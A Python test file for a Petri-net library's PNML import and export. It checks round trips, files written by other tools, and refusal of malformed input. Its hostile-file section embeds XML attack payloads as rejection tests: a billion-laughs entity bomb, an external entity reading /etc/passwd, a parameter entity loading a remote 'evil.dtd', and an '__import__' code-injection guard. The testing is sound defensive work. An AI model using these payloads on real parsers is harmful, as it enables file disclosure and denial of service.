"""PNML: export then import gives the same net; hostile or broken files are refused."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from petriflow.errors import ModelError, PnmlError
from petriflow.net import ArcKind, NetBuilder, enabled_transitions, read_pnml, write_pnml
from petriflow.net.colors import IntColor
from tests.strategies import colored_nets, pt_nets, scaled

NS = "http://www.pnml.org/version-2009/grammar/pnml"
PT = "http://www.pnml.org/version-2009/grammar/ptnet"


def pnml(body: str, *, net_type: str = PT, ns: bool = True) -> str:
    xmlns = f' xmlns="{NS}"' if ns else ""
    return (f'<?xml version="1.0"?>\n<pnml{xmlns}>\n<net id="n" type="{net_type}">\n'
            f'<page id="g">\n{body}\n</page>\n</net>\n</pnml>\n')


# -- round trips ------------------------------------------------------------------------


@settings(max_examples=scaled(80))
@given(pt_nets(labelled=True))
def test_pt_nets_survive_export_and_import(spec):
    net = spec.net
    text = write_pnml(net)
    back = read_pnml(text)
    assert back == net and back.fingerprint == net.fingerprint
    assert back.name == net.name
    assert {p.id: p.name for p in back.places} == {p.id: p.name for p in net.places}
    assert back.initial_marking == net.initial_marking
    assert sorted(enabled_transitions(back, back.initial_marking)) == sorted(
        enabled_transitions(net, net.initial_marking))
    assert write_pnml(back) == text
    assert read_pnml(text.encode("utf-8")) == net


@settings(max_examples=scaled(80))
@given(colored_nets(labelled=True))
def test_colored_nets_survive_export_and_import(spec):
    net = spec.net
    text = write_pnml(net)
    back = read_pnml(text)
    assert back == net and back.fingerprint == net.fingerprint
    assert back.initial_marking == net.initial_marking
    assert {t.id: (t.meta, t.variables, t.name) for t in back.transitions} == {
        t.id: (t.meta, t.variables, t.name) for t in net.transitions}
    assert sorted(enabled_transitions(back, back.initial_marking)) == sorted(
        enabled_transitions(net, net.initial_marking))
    assert write_pnml(back) == text


@settings(max_examples=scaled(30))
@given(colored_nets())
def test_colored_nets_keep_a_pt_skeleton(spec):
    """Any P/T tool reads the places, transitions, arcs and token counts of a colored net."""
    net = spec.net
    text = write_pnml(net)
    skeleton = read_pnml(text.replace('tool="petriflow"', 'tool="someone-else"'))
    assert skeleton.is_pt
    assert {p.id for p in skeleton.places} == {p.id for p in net.places}
    assert {(a.place, a.transition, a.is_input, a.weight, a.kind) for a in skeleton.arcs} == {
        (a.place, a.transition, a.is_input, a.weight, a.kind) for a in net.arcs}
    assert skeleton.initial_marking.counts() == net.initial_marking.counts()


# -- reading what other tools write -----------------------------------------------------


def test_nested_pages_reference_nodes_and_other_tools_sections():
    text = f"""<?xml version="1.0"?>
<pnml xmlns="{NS}">
 <net id="n1" type="{PT}">
  <name><text>nested</text></name>
  <toolspecific tool="nupn" version="1.1">
   <size places="2" transitions="1" arcs="3"/>
   <structure units="1" root="u0" safe="true">
    <unit id="u0"><places>p1 p2</places><subunits/></unit>
   </structure>
  </toolspecific>
  <page id="pg1">
   <place id="p1"><name><text>start</text></name>
    <initialMarking><text> 2 </text></initialMarking></place>
   <transition id="t1">
    <toolspecific tool="other" version="9"><guard>x &gt; 0</guard></toolspecific>
   </transition>
   <arc id="a1" source="p1" target="t1"><inscription><text>2</text></inscription></arc>
   <arc id="a2" source="t1" target="rp2"/>
   <referencePlace id="rp2" ref="rp3"/>
   <page id="pg2">
    <referencePlace id="rp3" ref="p2"/>
    <page id="pg3">
     <place id="p2"/>
     <arc id="a3" source="p2" target="rt1">
      <type value="inhibitor"/><inscription><text>3</text></inscription>
     </arc>
    </page>
    <referenceTransition id="rt1" ref="t1"/>
   </page>
  </page>
 </net>
</pnml>"""
    net = read_pnml(text)
    assert net.name == "nested"
    assert {p.id for p in net.places} == {"p1", "p2"}
    assert [t.id for t in net.transitions] == ["t1"]
    assert net.transition("t1").guard is None  # another tool's guard is not ours to read
    assert net.place("p1").name == "start"
    assert net.initial_marking.counts() == {"p1": 2}
    arcs = {a.id: (a.place, a.transition, a.is_input, a.weight, a.kind) for a in net.arcs}
    assert arcs == {
        "a1": ("p1", "t1", True, 2, ArcKind.NORMAL),
        "a2": ("p2", "t1", False, 1, ArcKind.NORMAL),
        "a3": ("p2", "t1", True, 3, ArcKind.INHIBITOR),
    }


def test_documents_without_namespace_and_nets_inside_modules_are_read():
    body = """<place id="p"><initialMarking><text>1</text></initialMarking></place>
<transition id="t"/><arc id="a" source="p" target="t"><type value="test"/></arc>"""
    net = read_pnml(pnml(body, ns=False))
    assert net.arcs[0].kind is ArcKind.READ
    module = (f'<pnml><module><net id="m" type="{PT}"><page id="g">{body}</page></net>'
              "</module></pnml>")
    assert read_pnml(module).name == "m"


def test_broken_references_are_problems():
    text = pnml("""<place id="p"/><transition id="t"/>
<referencePlace id="r1" ref="r2"/><referencePlace id="r2" ref="r1"/>
<referenceTransition id="rt" ref="nowhere"/>
<referencePlace id="half"/>
<arc id="a" source="r1" target="t"/><arc id="b" source="p" target="rt"/>""")
    with pytest.raises(PnmlError) as info:
        read_pnml(text)
    messages = [p.message for p in info.value.problems]
    assert "<referencePlace> needs both 'id' and 'ref'" in messages
    assert "arc 'a': reference nodes form a cycle at 'r1'" in messages
    assert any("'nowhere', which is neither a place nor a transition" in m for m in messages)
    assert "reference transition 'rt' refers to 'nowhere', which is no node of the net; it " \
        "must refer to a transition" in messages


@pytest.mark.parametrize(("ref", "target", "kind"), [
    ("referencePlace", "t", "place"), ("referenceTransition", "p", "transition")])
def test_a_reference_to_a_node_of_the_other_kind_is_a_problem(ref: str, target: str,
                                                             kind: str) -> None:
    """Read as its target, it would add an arc between two places or two transitions'
    neighbours that the file never drew (a phantom arc changes every verdict)."""
    text = pnml(f'<place id="p" /><transition id="t"/><place id="q"/><{ref} id="r" '
                f'ref="{target}"/>')
    with pytest.raises(PnmlError) as info:
        read_pnml(text)
    assert f"reference {kind} 'r' refers to the " in str(info.value)


def test_the_net_name_falls_back_to_its_id():
    assert read_pnml(pnml('<place id="p"/>')).name == "n"


# -- refusing broken and hostile files --------------------------------------------------

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<pnml><net id="n"><name><text>&lol9;</text></name><page id="g"/></net></pnml>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE pnml [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<pnml><net id="n"><name><text>&secret;</text></name><page id="g"/></net></pnml>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE pnml [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<pnml><net id="n"><page id="g"/></net></pnml>"""


@pytest.mark.parametrize(
    ("text", "entity"),
    [(BILLION_LAUGHS, "lol"), (EXTERNAL_ENTITY, "secret"), (PARAMETER_ENTITY, "remote")],
    ids=["billion-laughs", "external-entity", "parameter-entity"],
)
def test_entity_declarations_are_refused(text, entity):
    with pytest.raises(PnmlError) as info:
        read_pnml(text, file="evil.pnml")
    err = info.value
    assert isinstance(err, ModelError)
    assert "refused unsafe XML" in str(err)
    assert "EntitiesForbidden" in str(err) and f"name='{entity}'" in str(err)
    assert err.file == "evil.pnml"
    assert err.problems[0].hint == "PNML files need no DTD or entity declarations"
    assert "root:" not in str(err)


@pytest.mark.parametrize(
    ("text", "line"),
    [("<pnml><net", 1), ("<pnml>\n  <net id='n'>\n</pnml>", 3), ("", 1),
     ("not xml at all", 1), (b"<pnml>\xff</pnml>", 1)],
)
def test_malformed_xml_is_refused_with_its_position(text, line):
    with pytest.raises(PnmlError, match="not well-formed XML") as info:
        read_pnml(text)
    # (the column is expat's, counted from 0, unlike expression columns counted from 1)
    assert info.value.line == line and info.value.column is not None


@pytest.mark.parametrize(
    ("text", "fragment"),
    [
        ("<petrinet/>", "the root element is <petrinet>, not <pnml>"),
        ("<pnml/>", "the document holds no <net>"),
        (f"<pnml><net id='a' type='{PT}'/><net id='b' type='{PT}'/></pnml>",
         "the document holds 2 nets (a, b)"),
    ],
)
def test_documents_that_are_not_one_net_are_refused(text, fragment):
    with pytest.raises(PnmlError, match=fragment.replace("(", r"\(").replace(")", r"\)")):
        read_pnml(text)


def test_every_problem_of_a_broken_net_is_reported_with_its_line():
    text = pnml("""<place id="p"><initialMarking><text>-1</text></initialMarking></place>
<place><name><text>no id</text></name></place>
<transition id="t"/>
<transition><name><text>no id either</text></name></transition>
<arc id="a" source="p" target="tx"/>
<arc source="p" target="t"/>
<arc id="b" source="p"/>
<arc id="c" source="p" target="t"><inscription><text>two</text></inscription></arc>
<arc id="d" source="p" target="t"><type value="reset"/></arc>
<arc id="e" source="p" target="t"><inscription><text>0</text></inscription></arc>
<place id="q"><initialMarking><text>many</text></initialMarking></place>
<arc id="f" source="p" target="q"/>""")
    with pytest.raises(PnmlError) as info:
        read_pnml(text, file="broken.pnml")
    problems = {p.message: p for p in info.value.problems}
    expected = {
        "initial marking of place 'p' is negative (-1)": 5,
        "place number 2 has no id": None,
        "transition number 2 has no id": None,
        "arc refers to 'tx', which is neither a place nor a transition": 9,
        "arc has no id": None,
        "arc b has no target": 11,
        "arc 'c': the weight is not a number: 'two'": 12,
        "arc 'd' has the unknown type 'reset'": 13,
        "arc weight must be a positive integer, got 0": 14,
        "initial marking of place 'q' is not a number: 'many'": 15,
        "arc joins two places ('p' -> 'q')": 16,
    }
    for fragment, line in expected.items():
        found = [p for m, p in problems.items() if fragment in m]
        assert found, (fragment, list(problems))
        assert found[0].line == line, (fragment, found[0])
        assert found[0].file == "broken.pnml"
    assert len(problems) == len(expected)
    assert next(p for m, p in problems.items() if "'tx'" in m).hint == "did you mean 't'?"


@pytest.mark.parametrize(
    "net_type",
    [
        "http://www.pnml.org/version-2009/grammar/symmetricnet",
        "http://www.pnml.org/version-2009/grammar/pt-hlpng",
        "http://www.pnml.org/version-2009/grammar/hlcore",
    ],
)
def test_high_level_pnml_is_refused(net_type):
    with pytest.raises(PnmlError, match=r"high-level PNML .* is not supported") as info:
        read_pnml(pnml('<place id="p"/>', net_type=net_type))
    assert "colored extension" in (info.value.problems[0].hint or "")


@pytest.mark.parametrize("net_type", [
    "http://www.pnml.org/version-2009/grammar/highlevelnet",
    "http://www.pnml.org/version-2009/grammar/snnet",
])
def test_every_high_level_type_is_refused(net_type):
    body = """<place id="p"><type><structure><usersort declaration="D"/></structure></type>
<hlinitialMarking><text>1'(d1)</text></hlinitialMarking></place>
<transition id="t"><condition><text>x = d1</text></condition></transition>
<arc id="a" source="p" target="t"><hlinscription><text>x</text></hlinscription></arc>"""
    with pytest.raises(PnmlError, match="high-level"):
        read_pnml(pnml(body, net_type=net_type))


@pytest.mark.parametrize(
    ("extension", "fragment"),
    [
        ('<color>{"kind": "float"}</color>', "unknown color set kind 'float'"),
        ("<color>not json</color>", "bad petriflow extension"),
        ('<color>{"kind": "int", "low": 0, "high": 3}</color><tokens>[[7, 1]]</tokens>',
         "out of bounds"),
        ('<color>{"kind": "int"}</color><tokens>[[1, 0]]</tokens>', "malformed token entry"),
        ('<color>{"kind": "int"}</color><tokens>{"1": 1}</tokens>', "must hold a list"),
        ('<color>{"kind": "bool"}</color><tokens>[[1, 1]]</tokens>', "true or false"),
    ],
)
def test_a_malformed_petriflow_extension_is_a_problem(extension, fragment):
    text = pnml(f'<place id="p"><toolspecific tool="petriflow" version="1">{extension}'
                "</toolspecific></place>")
    with pytest.raises(PnmlError, match="bad petriflow extension") as info:
        read_pnml(text)
    assert fragment in str(info.value)
    assert info.value.element == "p"


def test_a_broken_guard_in_the_extension_is_an_expression_problem():
    text = pnml('<transition id="t"><toolspecific tool="petriflow" version="1">'
                "<guard>__import__('os')</guard></toolspecific></transition>")
    with pytest.raises(PnmlError, match="calling __import__ is not allowed") as info:
        read_pnml(text)
    assert info.value.element == "t"


def test_a_guard_problem_names_the_line_of_its_transition_in_the_file():
    text = pnml('<place id="p"/>\n\n<transition id="t">\n<toolspecific tool="petriflow" '
                "version=\"1\"><guard>x &gt; 'a'</guard></toolspecific></transition>")
    with pytest.raises(PnmlError) as info:
        read_pnml(text, file="g.pnml")
    [problem] = info.value.problems
    assert problem.line == text.splitlines().index('<transition id="t">') + 1
    assert problem.column is None and "in \"x > 'a'\" at column" in problem.message


# -- files as other tools write them, and what they must not slip past --------------------


def test_a_reference_node_cannot_share_the_id_of_a_node():
    # the arc would be silently redirected to q: p is both a place and a reference to q
    body = ('<place id="p"><initialMarking><text>1</text></initialMarking></place>'
            '<transition id="t"/><referencePlace id="p" ref="q"/><place id="q"/>'
            '<arc id="a" source="p" target="t"/>')
    with pytest.raises(PnmlError, match="the id 'p' is used twice") as info:
        read_pnml(pnml(body))
    assert info.value.element == "p"
    twice = ('<place id="q"/><transition id="t"/><referencePlace id="r" ref="q"/>'
             '<referenceTransition id="r" ref="t"/>')
    with pytest.raises(PnmlError, match="the id 'r' is used twice"):
        read_pnml(pnml(twice))


@pytest.mark.parametrize("label", [
    "<initialMarking>3</initialMarking>",
    "<initialMarking><value>Default,3</value></initialMarking>",
])
def test_a_marking_outside_a_text_element_is_a_problem_not_zero(label):
    with pytest.raises(PnmlError, match="initial marking of place 'p' is not in a <text>"):
        read_pnml(pnml(f'<place id="p">{label}</place>'))


def test_a_weight_outside_a_text_element_is_a_problem_not_one():
    body = ('<place id="p"/><transition id="t"/>'
            '<arc id="a" source="p" target="t"><inscription>2</inscription></arc>')
    with pytest.raises(PnmlError, match="arc 'a': the weight is not in a <text>"):
        read_pnml(pnml(body))


def test_labels_holding_only_graphics_are_absent():
    body = ('<place id="p"><initialMarking><graphics><offset x="1" y="2"/></graphics>'
            '</initialMarking></place><transition id="t"/><arc id="a" source="p" '
            'target="t"><inscription><graphics/></inscription></arc>')
    net = read_pnml(pnml(body))
    assert not net.initial_marking
    assert [a.weight for a in net.arcs] == [1]


@pytest.mark.parametrize("count", ["\u0661\u0662", "1_0", "+3", "3.0", "1" * 5000])
def test_counts_are_plain_digits_of_a_sane_size(count):
    with pytest.raises(PnmlError, match="initial marking of place 'p'") as info:
        read_pnml(pnml(f"<place id=\"p\"><initialMarking><text>{count}</text>"
                       "</initialMarking></place>"))
    assert len(str(info.value)) < 300, "the message quotes a long count in part only"


def test_the_core_model_type_that_pm4py_and_prom_write_is_a_pt_net():
    body = ('<place id="p"><initialMarking><text>2</text></initialMarking></place>'
            '<transition id="t"/><arc id="a" source="p" target="t"/>')
    core = "http://www.pnml.org/version-2009/grammar/pnmlcoremodel"
    net = read_pnml(pnml(body, net_type=core))
    assert enabled_transitions(net, net.initial_marking) == ["t"]


def test_an_unknown_encoding_is_a_problem_not_a_crash():
    with pytest.raises(PnmlError, match="cannot decode"):
        read_pnml(b'<?xml version="1.0" encoding="bogus-enc"?>\n<pnml/>', file="e.pnml")


def test_a_net_inside_another_tools_section_is_not_counted():
    body = ('<place id="p"/><toolspecific tool="other" version="9"><net id="x"/>'
            "</toolspecific>")
    assert [p.id for p in read_pnml(pnml(body)).places] == ["p"]


# -- labels that PNML does not keep -----------------------------------------------------


def _labelled(*, name: str | None = None, place_name: str | None = None,
              meta: dict[str, str] | None = None):
    b = NetBuilder(name or "n")
    b.place("p", initial=1, name=place_name)
    b.transition("t", meta=meta)
    b.arc("p", "t")
    return b.build()


@pytest.mark.parametrize(
    "net",
    [
        pytest.param(lambda: _labelled(place_name=" padded "), id="padded-name"),
        pytest.param(lambda: _labelled(place_name=""), id="empty-name"),
        pytest.param(lambda: _labelled(name=" padded net "), id="padded-net-name"),
        pytest.param(lambda: _labelled(place_name="a\rb"), id="carriage-return"),
        pytest.param(lambda: _labelled(place_name="tab\tand\nnewline"), id="tab-newline"),
        pytest.param(lambda: _labelled(meta={"": "v"}), id="empty-meta-key"),
    ],
)
def test_labels_survive_export_and_import(net):
    n = net()
    assert read_pnml(write_pnml(n)) == n


def test_a_control_character_that_xml_cannot_carry_is_refused_on_export():
    with pytest.raises(PnmlError, match="control character") as info:
        write_pnml(_labelled(place_name="bell\x07"))
    assert info.value.element == "p"


def test_pretty_printed_labels_of_other_tools_are_trimmed():
    text = pnml('<place id="p"><name>\n    <text>\n      Order received\n    </text>\n  '
                "</name></place>")
    assert read_pnml(text).place("p").name == "Order received"


def test_colored_tokens_in_pnml_are_decoded_by_the_place_color():
    b = NetBuilder("c")
    b.place("p", color=IntColor(0, 3), initial=[1, 1, 2])
    net = b.build()
    text = write_pnml(net)
    assert "<initialMarking>" in text  # the P/T skeleton sees 3 tokens
    assert read_pnml(text).initial_marking == net.initial_marking
    tampered = text.replace("[[1, 2], [2, 1]]", "[[1, 2], [9, 1]]")
    assert tampered != text
    with pytest.raises(PnmlError, match="out of bounds"):
        read_pnml(tampered)


def test_strategies_cover_every_arc_kind():
    # a guard on the strategies themselves: the round trips above see read and
    # inhibitor arcs, not only normal ones
    kinds = set()

    @settings(max_examples=scaled(50), database=None)
    @given(st.one_of(pt_nets(), colored_nets()))
    def collect(spec):
        kinds.update(a.kind for a in spec.net.arcs)

    collect()
    assert kinds == set(ArcKind)


@pytest.mark.parametrize("declared", ["utf8", "UTF8", "u8", "utf-8", "UTF-8"])
def test_an_alias_of_utf8_in_the_declaration_reads_as_utf8(declared: str) -> None:
    """Some tools write encoding="utf8", which expat does not know as UTF-8: it read the
    bytes as another encoding and stopped at the first accented name."""
    from petriflow.model.bpmn import read_bpmn

    body = pnml('<place id="p"><name><text>Prüfung</text></name></place>')
    text = f'<?xml version="1.0" encoding="{declared}"?>' + body.split("?>", 1)[-1]
    assert read_pnml(text.encode("utf-8")).place("p").name == "Prüfung"
    bpmn = (f'<?xml version="1.0" encoding="{declared}"?><definitions xmlns="http://www.omg.'
            'org/spec/BPMN/20100524/MODEL" id="d"><process id="p" isExecutable="true">'
            '<startEvent id="s" name="Eingang prüfen"/><endEvent id="e"/><sequenceFlow '
            'id="f" sourceRef="s" targetRef="e"/></process></definitions>')
    assert read_bpmn(bpmn.encode("utf-8"), "x.bpmn").loaded.spec.nodes["s"].name \
        == "Eingang prüfen"
